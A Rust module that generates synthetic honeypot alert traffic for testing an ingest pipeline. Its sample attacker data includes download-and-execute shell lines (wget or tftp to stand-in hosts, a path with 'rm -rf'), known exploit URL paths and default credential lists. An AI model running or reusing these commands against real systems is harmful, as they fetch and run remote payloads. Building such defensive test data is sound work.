//! Synthetic but realistic T-Pot traffic: EWS `<Alert>` elements as ewsposter sends them.
//!
//! - Honeypot types in roughly the shares a T-Pot community install shows (honeytrap,
//!   cowrie and dionaea carry about two thirds of the alerts; a long tail of small modules).
//! - Source addresses heavy-tailed: a few hosts send a large part of the traffic, most send a
//!   handful of alerts; countries heavy-tailed too (each country owns a few /8 networks, which
//!   the GeoIP database written by [`write_geoip`] maps back to it). About 3 % of the sources
//!   are private (RFC 1918) addresses.
//! - About 200 sensors (installations), most in Germany; each message comes from one sensor.
//!   Sensors are community or private (the data domain of their alerts).
//!
//! Everything is deterministic for a given seed.

use std::fmt::Write as _;
use std::net::Ipv4Addr;
use std::path::{Path, PathBuf};

/// xorshift64*: small, fast, deterministic.
#[derive(Debug, Clone)]
pub struct Rng(u64);

impl Rng {
    /// A generator from a seed (any value).
    pub fn new(seed: u64) -> Self {
        Rng(seed.wrapping_mul(0x9E37_79B9_7F4A_7C15) | 1)
    }

    /// The next 64 random bits.
    pub fn next_u64(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }

    /// Uniform in `0..n` (`n > 0`).
    pub fn below(&mut self, n: u64) -> u64 {
        self.next_u64() % n
    }

    /// Uniform in `[0, 1)`.
    pub fn unit(&mut self) -> f64 {
        (self.next_u64() >> 11) as f64 / (1u64 << 53) as f64
    }

    /// `true` with probability `percent`/100.
    pub fn chance(&mut self, percent: u64) -> bool {
        self.below(100) < percent
    }

    /// A heavy-tailed index in `0..n`: index `i` has weight about `1/(i+1)` (Zipf, s = 1).
    pub fn zipf(&mut self, n: u64) -> u64 {
        // Inverse of the continuous approximation: i = (n+1)^u - 1.
        let i = ((n as f64 + 1.0).powf(self.unit()) - 1.0) as u64;
        i.min(n - 1)
    }

    /// Picks an item, the first ones most often (Zipf over the positions).
    pub fn zipf_pick<T: Copy>(&mut self, items: &[T]) -> T {
        items[self.zipf(items.len() as u64) as usize]
    }

    /// Picks an item by integer weight.
    pub fn weighted<'a, T>(&mut self, items: &'a [(T, u32)]) -> &'a T {
        let total: u32 = items.iter().map(|(_, w)| w).sum();
        let mut r = self.below(u64::from(total)) as u32;
        for (item, weight) in items {
            if r < *weight {
                return item;
            }
            r -= weight;
        }
        &items[items.len() - 1].0
    }
}

/// What a module sends besides the description.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    /// Connection only (honeytrap, dionaea, glutton, suricata …).
    Network,
    /// SSH/Telnet logins and commands (cowrie).
    Shell,
    /// HTTP requests (`Request type="url"`).
    Web,
    /// Credentials (heralding).
    Passwords,
}

/// One honeypot module as ewsposter reports it.
#[derive(Debug, Clone, Copy)]
pub struct Module {
    /// Module name; the analyzer id is `<name>-community-01`.
    pub name: &'static str,
    /// Share in per mille.
    pub share: u32,
    /// `Request type="description"` text.
    pub description: &'static str,
    /// Target ports, most frequent first.
    pub ports: &'static [u16],
    /// What else it sends.
    pub kind: Kind,
}

/// The modules and their shares (per mille; they add up to 1000).
pub const MODULES: &[Module] = &[
    Module {
        name: "honeytrap",
        share: 300,
        description: "NetworkHoneypot Honeytrap v1.1",
        ports: &[
            445, 23, 80, 8080, 3389, 5555, 1433, 22, 8443, 2323, 81, 8000, 6379, 5900, 37215,
            52869, 60001, 8888, 9000, 7547,
        ],
        kind: Kind::Network,
    },
    Module {
        name: "cowrie",
        share: 180,
        description: "SSH Honeypot Cowrie",
        ports: &[22, 23, 2222, 2323],
        kind: Kind::Shell,
    },
    Module {
        name: "dionaea",
        share: 160,
        description: "Network Honeyport Dionaea v0.1.0",
        ports: &[
            445, 1433, 3306, 21, 135, 80, 42, 1723, 5060, 27017, 11211, 69,
        ],
        kind: Kind::Network,
    },
    Module {
        name: "suricata",
        share: 60,
        description: "Suricata Attack",
        ports: &[445, 22, 80, 23, 443, 3389],
        kind: Kind::Network,
    },
    Module {
        name: "glutton",
        share: 50,
        description: "Glutton Honeypot",
        ports: &[8080, 8081, 9200, 2375, 6443, 10250, 5060],
        kind: Kind::Network,
    },
    Module {
        name: "heralding",
        share: 40,
        description: "Heralding Honeypot",
        ports: &[21, 110, 143, 3306, 5432, 5900, 1080],
        kind: Kind::Passwords,
    },
    Module {
        name: "tanner",
        share: 40,
        description: "Tanner Honeypot",
        ports: &[80],
        kind: Kind::Web,
    },
    Module {
        name: "adbhoney",
        share: 30,
        description: "ADBHoney Honeypot",
        ports: &[5555],
        kind: Kind::Network,
    },
    Module {
        name: "conpot",
        share: 20,
        description: "Conpot Honeypot",
        ports: &[102, 502, 161, 47808, 623, 10001, 20000],
        kind: Kind::Network,
    },
    Module {
        name: "ciscoasa",
        share: 20,
        description: "Cisco-ASA Honeypot",
        ports: &[8443, 5000],
        kind: Kind::Network,
    },
    Module {
        name: "elasticpot",
        share: 20,
        description: "ElasticSearch Honeypot : Elasticpot",
        ports: &[9200],
        kind: Kind::Web,
    },
    Module {
        name: "mailoney",
        share: 20,
        description: "Mail Honeypot mailoney",
        ports: &[25, 587],
        kind: Kind::Network,
    },
    Module {
        name: "sentrypeer",
        share: 20,
        description: "Sentrypeer Honeypot",
        ports: &[5060],
        kind: Kind::Network,
    },
    Module {
        name: "redishoneypot",
        share: 10,
        description: "Redis Honeypot",
        ports: &[6379],
        kind: Kind::Network,
    },
    Module {
        name: "h0neytr4p",
        share: 10,
        description: "H0neytr4p Honeypot",
        ports: &[443, 80],
        kind: Kind::Web,
    },
    Module {
        name: "log4pot",
        share: 10,
        description: "Log4pot Honeypot",
        ports: &[8080, 80, 443],
        kind: Kind::Web,
    },
    Module {
        name: "citrix",
        share: 5,
        description: "Citrix Honeypot",
        ports: &[443],
        kind: Kind::Network,
    },
    Module {
        name: "ddospot",
        share: 5,
        description: "Ddospot Honeypot",
        ports: &[19, 53, 123, 1900],
        kind: Kind::Network,
    },
];

/// A source country: ISO code, name, coordinates and the /8 networks it owns here.
#[derive(Debug, Clone, Copy)]
pub struct Country {
    /// ISO code.
    pub iso: &'static str,
    /// English name.
    pub name: &'static str,
    /// Latitude.
    pub lat: f64,
    /// Longitude.
    pub lon: f64,
    /// First octets of its networks.
    pub octets: &'static [u8],
}

/// Countries, most active first (the generator picks them heavy-tailed).
pub const COUNTRIES: &[Country] = &[
    Country {
        iso: "CN",
        name: "China",
        lat: 34.77,
        lon: 113.72,
        octets: &[1, 14, 27, 36],
    },
    Country {
        iso: "US",
        name: "United States",
        lat: 37.75,
        lon: -97.82,
        octets: &[3, 8, 23, 45],
    },
    Country {
        iso: "RU",
        name: "Russia",
        lat: 55.74,
        lon: 37.61,
        octets: &[5, 31, 46],
    },
    Country {
        iso: "IN",
        name: "India",
        lat: 21.99,
        lon: 78.92,
        octets: &[49, 59, 103],
    },
    Country {
        iso: "BR",
        name: "Brazil",
        lat: -22.83,
        lon: -43.21,
        octets: &[177, 179, 186],
    },
    Country {
        iso: "VN",
        name: "Vietnam",
        lat: 16.0,
        lon: 106.0,
        octets: &[113, 171],
    },
    Country {
        iso: "NL",
        name: "Netherlands",
        lat: 52.38,
        lon: 4.9,
        octets: &[77, 89],
    },
    Country {
        iso: "DE",
        name: "Germany",
        lat: 51.3,
        lon: 9.49,
        octets: &[78, 87, 91],
    },
    Country {
        iso: "KR",
        name: "South Korea",
        lat: 37.51,
        lon: 126.97,
        octets: &[112, 121],
    },
    Country {
        iso: "TW",
        name: "Taiwan",
        lat: 24.0,
        lon: 121.0,
        octets: &[111, 114],
    },
    Country {
        iso: "ID",
        name: "Indonesia",
        lat: -6.17,
        lon: 106.83,
        octets: &[136, 180],
    },
    Country {
        iso: "GB",
        name: "United Kingdom",
        lat: 51.5,
        lon: -0.13,
        octets: &[81, 86],
    },
    Country {
        iso: "FR",
        name: "France",
        lat: 48.86,
        lon: 2.34,
        octets: &[51, 62],
    },
    Country {
        iso: "SG",
        name: "Singapore",
        lat: 1.29,
        lon: 103.85,
        octets: &[128, 139],
    },
    Country {
        iso: "HK",
        name: "Hong Kong",
        lat: 22.28,
        lon: 114.15,
        octets: &[43, 101],
    },
    Country {
        iso: "IR",
        name: "Iran",
        lat: 35.7,
        lon: 51.42,
        octets: &[2, 185],
    },
    Country {
        iso: "UA",
        name: "Ukraine",
        lat: 50.45,
        lon: 30.52,
        octets: &[93, 176],
    },
    Country {
        iso: "TH",
        name: "Thailand",
        lat: 13.75,
        lon: 100.47,
        octets: &[110, 125],
    },
    Country {
        iso: "BG",
        name: "Bulgaria",
        lat: 42.7,
        lon: 23.32,
        octets: &[94],
    },
    Country {
        iso: "RO",
        name: "Romania",
        lat: 44.43,
        lon: 26.1,
        octets: &[79, 188],
    },
    Country {
        iso: "PL",
        name: "Poland",
        lat: 52.23,
        lon: 21.01,
        octets: &[83, 95],
    },
    Country {
        iso: "JP",
        name: "Japan",
        lat: 35.69,
        lon: 139.69,
        octets: &[60, 126],
    },
    Country {
        iso: "MX",
        name: "Mexico",
        lat: 19.43,
        lon: -99.13,
        octets: &[187, 189],
    },
    Country {
        iso: "TR",
        name: "Turkey",
        lat: 41.01,
        lon: 28.97,
        octets: &[88, 212],
    },
    Country {
        iso: "AR",
        name: "Argentina",
        lat: -34.6,
        lon: -58.38,
        octets: &[181, 190],
    },
    Country {
        iso: "ZA",
        name: "South Africa",
        lat: -26.2,
        lon: 28.04,
        octets: &[41, 105],
    },
    Country {
        iso: "EG",
        name: "Egypt",
        lat: 30.04,
        lon: 31.24,
        octets: &[156, 197],
    },
    Country {
        iso: "PK",
        name: "Pakistan",
        lat: 33.69,
        lon: 73.05,
        octets: &[39, 119],
    },
    Country {
        iso: "CA",
        name: "Canada",
        lat: 43.65,
        lon: -79.38,
        octets: &[24, 99],
    },
    Country {
        iso: "IT",
        name: "Italy",
        lat: 41.9,
        lon: 12.5,
        octets: &[82, 151],
    },
];

/// Sensors (installations) of the synthetic deployment.
pub const SENSORS: u64 = 200;

/// The first sensor numbers that report private (non-community) data: one in five.
pub fn sensor_is_private(sensor: u64) -> bool {
    sensor % 5 == 4
}

/// A sensor's external address: most sensors in Germany (87.x), the rest spread.
pub fn sensor_address(sensor: u64) -> Ipv4Addr {
    let country = if sensor % 10 < 6 {
        &COUNTRIES[7]
    } else {
        &COUNTRIES[(sensor as usize * 7) % COUNTRIES.len()]
    };
    let first = country.octets[0];
    Ipv4Addr::new(first, 200, (sensor / 250) as u8, (sensor % 250) as u8 + 1)
}

/// Web paths, most requested first.
const PATHS: &[&str] = &[
    "/",
    "/.env",
    "/wp-login.php",
    "/favicon.ico",
    "/robots.txt",
    "/admin/config.php",
    "/boaform/admin/formLogin",
    "/cgi-bin/luci/;stok=/locale",
    "/.git/config",
    "/shell?cd+/tmp;rm+-rf+*;wget+http://x/bins.sh;sh+bins.sh",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/actuator/health",
    "/HNAP1/",
    "/owa/auth/logon.aspx",
    "/solr/admin/info/system",
    "/_all/_search",
    "/api/v1/pods",
    "/index.php?s=/Index/\\think\\app/invokefunction",
];

const USERS: &[&str] = &[
    "root", "admin", "user", "ubuntu", "test", "pi", "oracle", "support",
];
const PASSWORDS: &[&str] = &[
    "123456", "admin", "password", "root", "1234", "12345678", "qwerty", "",
];
const COMMANDS: &[&str] = &[
    "uname -a",
    "cat /proc/cpuinfo | grep name | wc -l",
    "cd /tmp; wget http://203.0.113.9/x.sh; sh x.sh",
    "echo -e \"\\x6F\\x6B\"",
    "free -m | grep Mem",
];

/// A command only sessions from sources whose address ends in [`RARE_OCTET`] type (about
/// one alert in 7,000, without drawing from the generator): the selective term of the
/// text-search benchmark.
pub const RARE_COMMAND: &str = "busybox tftp -g -r mipsel.bot 198.51.100.23";
/// A text only [`RARE_COMMAND`] contains.
pub const RARE_TERM: &str = "mipsel.bot";
const RARE_OCTET: u8 = 200;

/// A heavy-tailed public or private source address.
pub fn source_address(rng: &mut Rng) -> Ipv4Addr {
    if rng.chance(3) {
        return match rng.below(3) {
            0 => Ipv4Addr::new(
                10,
                rng.below(256) as u8,
                rng.below(256) as u8,
                1 + rng.below(254) as u8,
            ),
            1 => Ipv4Addr::new(192, 168, rng.below(256) as u8, 1 + rng.below(254) as u8),
            _ => Ipv4Addr::new(
                172,
                16 + rng.below(16) as u8,
                rng.below(256) as u8,
                1 + rng.below(254) as u8,
            ),
        };
    }
    let country = rng.zipf_pick(COUNTRIES);
    // A heavy-tailed host among 2^20 per country; its address is a fixed hash of its rank.
    let host = rng.zipf(1 << 20);
    let h = host.wrapping_mul(0x9E37_79B9_7F4A_7C15) >> 32;
    let first = country.octets[(h % country.octets.len() as u64) as usize];
    Ipv4Addr::new(first, (h >> 8) as u8, (h >> 16) as u8, 1 + (h % 254) as u8)
}

/// The source address the generator picks most often (rank 0 of the busiest country).
pub fn busiest_source() -> Ipv4Addr {
    let country = &COUNTRIES[0];
    Ipv4Addr::new(country.octets[0], 0, 0, 1)
}

/// Appends one `<Alert>` of `module` from `sensor`, created at `create_time`
/// (`YYYY-MM-DD HH:MM:SS`, UTC), to `out`.
pub fn write_alert(out: &mut String, rng: &mut Rng, sensor: u64, create_time: &str) {
    let module = rng.weighted(MODULE_WEIGHTS);
    let module = &MODULES[*module];
    let source = source_address(rng);
    let port = module.ports[rng.zipf(module.ports.len() as u64) as usize];
    let target = sensor_address(sensor);
    let _ = write!(
        out,
        "<Alert><Analyzer id=\"{}-community-01\"/><CreateTime tz=\"+0000\">{create_time}</CreateTime>\
         <Source category=\"ipv4\" port=\"{}\" protocol=\"tcp\">{source}</Source>\
         <Target category=\"ipv4\" port=\"{port}\" protocol=\"tcp\">{target}</Target>\
         <Request type=\"description\">{}</Request>",
        module.name,
        1024 + rng.below(64_000),
        module.description
    );
    let meaning = |out: &mut String, meaning: &str, value: &str| {
        let _ = write!(
            out,
            "<AdditionalData type=\"string\" meaning=\"{meaning}\">{}</AdditionalData>",
            escape(value)
        );
    };
    match module.kind {
        Kind::Network => {}
        Kind::Web => {
            let path = rng.zipf_pick(PATHS);
            let _ = write!(out, "<Request type=\"url\">{}</Request>", escape(path));
        }
        Kind::Shell => {
            let login = if rng.chance(20) { "Success" } else { "Fail" };
            meaning(out, "version", "SSH-2.0-Go");
            meaning(out, "login", login);
            meaning(out, "username", rng.zipf_pick(USERS));
            meaning(out, "password", rng.zipf_pick(PASSWORDS));
            if login == "Success" {
                let n = 1 + rng.below(3) as usize;
                let mut commands: Vec<String> = (0..n)
                    .map(|_| format!("'{}'", rng.zipf_pick(COMMANDS)))
                    .collect();
                if source.octets()[3] == RARE_OCTET {
                    commands.push(format!("'{RARE_COMMAND}'"));
                }
                meaning(out, "input", &format!("[{}]", commands.join(", ")));
            }
        }
        Kind::Passwords => {
            meaning(
                out,
                "protocol",
                ["ftp", "pop3", "imap", "mysql", "vnc"][rng.below(5) as usize],
            );
            meaning(out, "username", rng.zipf_pick(USERS));
            meaning(out, "password", rng.zipf_pick(PASSWORDS));
        }
    }
    let hostname = if sensor.is_multiple_of(23) {
        String::new()
    } else {
        format!("tpot-{sensor:03}")
    };
    if !hostname.is_empty() {
        meaning(out, "hostname", &hostname);
    }
    meaning(out, "externalIP", &target.to_string());
    meaning(
        out,
        "internalIP",
        &format!("172.20.{}.{}", sensor / 250, sensor % 250 + 2),
    );
    out.push_str("</Alert>");
}

const MODULE_WEIGHTS: &[(usize, u32)] = &{
    let mut table = [(0usize, 0u32); MODULES.len()];
    let mut i = 0;
    while i < MODULES.len() {
        table[i] = (i, MODULES[i].share);
        i += 1;
    }
    table
};

fn escape(text: &str) -> String {
    text.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
}

/// A complete EWS message with credentials around the given alerts.
pub fn message(user: &str, token: &str, alerts: &str) -> String {
    format!(
        "<EWS-SimpleMessage version=\"3.0\"><Authentication><username>{user}</username>\
         <token>{token}</token></Authentication>{alerts}</EWS-SimpleMessage>"
    )
}

/// Writes a city and an ASN database that map every generated network to its country
/// (`city.mmdb`, `asn.mmdb` in `dir`); returns their paths.
pub fn write_geoip(dir: &Path) -> std::io::Result<(PathBuf, PathBuf)> {
    use crate::mmdb::{AsnRecord, CityRecord, write_asn_db, write_city_db};
    std::fs::create_dir_all(dir)?;
    let mut city = Vec::new();
    let mut asn = Vec::new();
    let mut seen = std::collections::HashSet::new();
    for (i, country) in COUNTRIES.iter().enumerate() {
        for &octet in country.octets {
            if !seen.insert(octet) {
                continue;
            }
            let net: ipnet::IpNet = format!("{octet}.0.0.0/8").parse().expect("network");
            city.push((
                net,
                CityRecord::new(country.iso, country.name, country.lat, country.lon),
            ));
            asn.push((
                net,
                AsnRecord::new(64_500 + i as u32, &format!("{} Telecom", country.name)),
            ));
        }
    }
    let city_path = dir.join("city.mmdb");
    let asn_path = dir.join("asn.mmdb");
    write_city_db(&city_path, &city)?;
    write_asn_db(&asn_path, &asn)?;
    Ok((city_path, asn_path))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn shares_add_up() {
        assert_eq!(MODULES.iter().map(|m| m.share).sum::<u32>(), 1000);
    }

    #[test]
    fn zipf_is_heavy_tailed() {
        let mut rng = Rng::new(1);
        let n = 100_000;
        let head = (0..n).filter(|_| rng.zipf(1 << 20) < 100).count();
        // About ln(101)/ln(2^20+1) = 33 % of the draws fall on the top 100 of 1M.
        assert!(head > n / 4 && head < n / 2, "{head}");
    }

    #[test]
    fn messages_parse_and_build() {
        let mut rng = Rng::new(7);
        let mut alerts = String::new();
        for sensor in 0..50 {
            write_alert(&mut alerts, &mut rng, sensor, "2024-06-24 12:00:00");
        }
        let xml = message("u", "t", &alerts);
        let parsed = peba::ingest::parse_message(xml.as_bytes()).expect("parses");
        let geoip = peba::ingest::GeoIp::disabled();
        let built = peba::ingest::build_alerts(
            &parsed,
            &peba::ingest::BuildContext {
                client_domain: true,
                client: peba::domain::COMMUNITY_CLIENT,
                max_field_bytes: 65_536,
                received: peba::domain::Timestamp::now(),
                classification: Default::default(),
                geoip: &geoip,
            },
        );
        assert_eq!(built.alerts.len(), 50, "{:?}", built.skipped);
    }
}
